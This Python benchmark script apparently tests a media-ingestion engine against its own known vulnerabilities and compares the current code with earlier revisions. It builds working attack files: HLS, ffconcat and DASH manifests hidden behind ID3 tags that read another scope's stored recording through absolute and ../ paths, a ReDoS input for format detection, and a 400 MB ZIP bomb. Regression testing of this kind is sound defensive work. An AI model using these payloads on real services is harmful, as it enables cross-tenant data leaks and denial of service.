"""Crafted media and format-detection attacks, measured against any revision of the code.

What it measures (issue 11, items 1 and 2, and a sibling found on the way):

* **Crafted media reads other files.** A fresh engine ingests a "secret"
  recording (the sample stand-up, as an M4A with its index first) into scope
  ``A``; then each attack file is uploaded into scope ``B``: an HLS playlist
  behind an ID3 tag naming the secret's stored file by absolute and by
  ``../``-relative path, an ffconcat script behind an ID3 tag, and a DASH
  manifest behind an ID3 tag and an XML comment (which detection takes for a
  recording). For each: the upload's status and reason, seconds, and whether
  the secret's words can be found by searching scope ``B`` (leaked: yes/no).
* **ReDoS in format detection.** ``detect_kind`` on a file of ``"<!---->" * n + "x"``:
  seconds for each ``n`` (the old regex doubles per repeat), and for a 64 KiB file.
* **ZIP bomb in format detection.** ``detect_kind`` on a 0.4 MB ZIP whose
  ``[Content_Types].xml`` expands to 400 MB: seconds, and how far the peak
  RSS grew during the call (the imports before it take about 300 MiB).

Each detection run is a child process (its peak RSS is its own), stopped
after ``--redos-limit`` seconds. ``--ref REV`` runs the same attacks against
``git archive REV`` of this repository, unpacked in a temporary folder, so
"before" needs no stash or checkout::

    .venv/bin/python bench/attacks_media.py --ref HEAD --repeats 20,22,24,25,26
    .venv/bin/python bench/attacks_media.py --repeats 20,22,24,25,9362
"""

from __future__ import annotations

import argparse
import io
import re
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from common import ROOT, header, quiet, table, write_result  # noqa: E402

SECRET = ROOT / "samples" / "rotterdam-pilot-standup.m4a"
_ID3 = b"ID3\x04\x00\x00\x00\x00\x00\x00"  # an empty ID3v2.4 tag: what makes detection say "mp3"


def _code_from(ref: str | None, folder: Path) -> Path:
    """The repository's code at ``ref`` (unpacked into ``folder``), or the working tree."""
    if ref is None:
        return ROOT
    archive = subprocess.run(["git", "-C", str(ROOT), "archive", ref], capture_output=True, check=True).stdout
    subprocess.run(["tar", "-x", "-C", str(folder)], input=archive, check=True)
    return folder


def _attacks(secret_stored: Path, attack_dir_depth: int) -> dict[str, bytes]:
    """Each attack file's bytes, naming the secret as a file stored next to the attacker's folder would see it."""
    relative = "/".join([".."] * attack_dir_depth + [secret_stored.parent.name, secret_stored.name])
    hls = "#EXTM3U\n#EXT-X-TARGETDURATION:60\n#EXTINF:60,\n{}\n#EXT-X-ENDLIST\n"
    dash = ('<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT60S" '
            'profiles="urn:mpeg:dash:profile:isoff-on-demand:2011" minBufferTime="PT1S"><Period>'
            '<AdaptationSet mimeType="audio/mp4"><Representation id="a" bandwidth="64000">'
            f"<BaseURL>{secret_stored}</BaseURL></Representation></AdaptationSet></Period></MPD>")
    return {
        "hls-absolute": _ID3 + hls.format(secret_stored).encode(),
        "hls-relative": _ID3 + hls.format(relative).encode(),
        "ffconcat-absolute": _ID3 + f"ffconcat version 1.0\nfile '{secret_stored}'\n".encode(),
        # U+0085 in a comment: not plain text, so detection (before and after) says "recording".
        "dash-behind-id3": _ID3 + "<!--\u0085-->".encode() + dash.encode(),
    }


def _words(text: str) -> set[str]:
    return set(re.findall(r"[a-z]{5,}", text.lower()))


def media_attacks() -> list[list]:
    """Each attack uploaded into scope B while the secret recording sits in scope A."""
    from app import build_engine
    from core.config import Settings
    from core.models import IngestStatus

    rows = []
    with tempfile.TemporaryDirectory() as tmp:
        engine = build_engine(Settings(data_dir=Path(tmp) / "data"))
        try:
            m4a = Path(tmp) / "standup.m4a"
            # Index first: the HLS and DASH demuxers read segments without seeking back to an index at the end.
            subprocess.run(["ffmpeg", "-nostdin", "-v", "error", "-i", str(SECRET), "-c", "copy",
                            "-movflags", "+faststart", str(m4a)], check=True)
            started = time.perf_counter()
            with m4a.open("rb") as f:
                secret = engine.ingest_upload("standup.m4a", f, scope="A")
            assert secret.status == IngestStatus.INDEXED, secret.error
            print(f"secret recording indexed in scope A in {time.perf_counter() - started:.1f} s")
            secret_words = _words(" ".join(s.text for s in engine.transcript(secret.doc_id).segments))
            stored = next((Path(tmp) / "data").rglob("standup.m4a"))
            query = " ".join(sorted(secret_words)[:12])
            for name, data in _attacks(stored, 1).items():
                filename = f"{name}.mp3"
                started = time.perf_counter()
                result = engine.ingest_upload(filename, io.BytesIO(data), scope="B")
                seconds = time.perf_counter() - started
                hits = engine.search(query, k=5, scopes=["B"])
                leaked = [h for h in hits if len(_words(h.chunk.text) & secret_words) >= 5]
                rows.append([name, len(data), result.status.value, f"{seconds:.2f}",
                             "YES" if leaked else "no", (result.error or "")[:90]])
                if result.status == IngestStatus.INDEXED:
                    engine.delete(result.doc_id)
        finally:
            engine.close()
    return rows


_DETECT = ("import resource, sys, time; from pathlib import Path; from core.ingest.loaders import detect_kind\n"
           "peak = lambda: resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024\n"
           "before, t = peak(), time.perf_counter()\n"
           "try:\n    k = detect_kind(Path(sys.argv[1]))\nexcept Exception as e:\n    k = type(e).__name__\n"
           "print(k, time.perf_counter() - t, peak() - before)")


def _detect(path: Path, limit_s: float) -> list:
    """[kind, seconds, MiB the peak RSS grew] of ``detect_kind(path)`` in a child (the code under attack on cwd)."""
    try:
        done = subprocess.run([sys.executable, "-c", _DETECT, str(path)], capture_output=True, text=True,
                              timeout=limit_s, cwd=sys.path[0])
    except subprocess.TimeoutExpired:
        return ["(killed)", f"> {limit_s:.0f}", "-"]
    if done.returncode != 0:
        return ["error: " + done.stderr.strip().splitlines()[-1][:60], "nan", "-"]
    kind, seconds, peak = done.stdout.split()
    return [kind, f"{float(seconds):.4f}", peak]


def redos(repeats: list[int], limit_s: float) -> list[list]:
    """``detect_kind`` on ``"<!---->" * n + "x"``."""
    rows = []
    with tempfile.TemporaryDirectory() as tmp:
        for n in repeats:
            path = Path(tmp) / f"comments-{n}.txt"
            path.write_bytes(b"<!---->" * n + b"x")
            rows.append([n, path.stat().st_size, *_detect(path, limit_s)])
    return rows


def zip_bomb(limit_s: float) -> list[list]:
    """``detect_kind`` on a ZIP whose [Content_Types].xml expands to 400 MB."""
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "report.docx"
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, \
                archive.open("[Content_Types].xml", "w") as part:
            part.write(b"<Types>")
            for _ in range(400):
                part.write(b" " * (1 << 20))
        return [["[Content_Types].xml x 400 MB", path.stat().st_size, *_detect(path, limit_s)]]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--ref", help="git revision to attack (default: the working tree)")
    parser.add_argument("--repeats", default="20,22,24,25,9362",
                        help="comma-separated repeats of '<!---->' (9362 repeats = 64 KiB)")
    parser.add_argument("--redos-limit", type=float, default=150.0,
                        help="seconds before a detection run is killed")
    parser.add_argument("--skip-media", action="store_true", help="only the ReDoS figures")
    args = parser.parse_args()

    quiet()
    info = header(f"crafted media and detection attacks ({args.ref or 'working tree'})")
    with tempfile.TemporaryDirectory() as code_tmp:
        code = _code_from(args.ref, Path(code_tmp))
        sys.path.insert(0, str(code))  # before any `core` import: the code under attack
        result: dict = {"info": info, "ref": args.ref or "working tree"}
        repeats = [int(x) for x in args.repeats.split(",") if x]
        rows = redos(repeats, args.redos_limit)
        table("ReDoS: detect_kind on '<!---->' * n + 'x'", ["repeats", "bytes", "kind", "seconds", "peak +MiB"],
              rows)
        result["redos"] = rows
        rows = zip_bomb(args.redos_limit)
        table("ZIP bomb: detect_kind", ["file", "bytes", "kind", "seconds", "peak +MiB"], rows)
        result["zip_bomb"] = rows
        if not args.skip_media:
            rows = media_attacks()
            table("Crafted media uploaded into scope B while a recording sits in scope A",
                  ["attack", "bytes", "status", "seconds", "secret in B", "reason"], rows)
            result["media"] = rows
    write_result("attacks_media" + ("_" + re.sub(r"\W", "_", args.ref) if args.ref else ""), result)


if __name__ == "__main__":
    main()
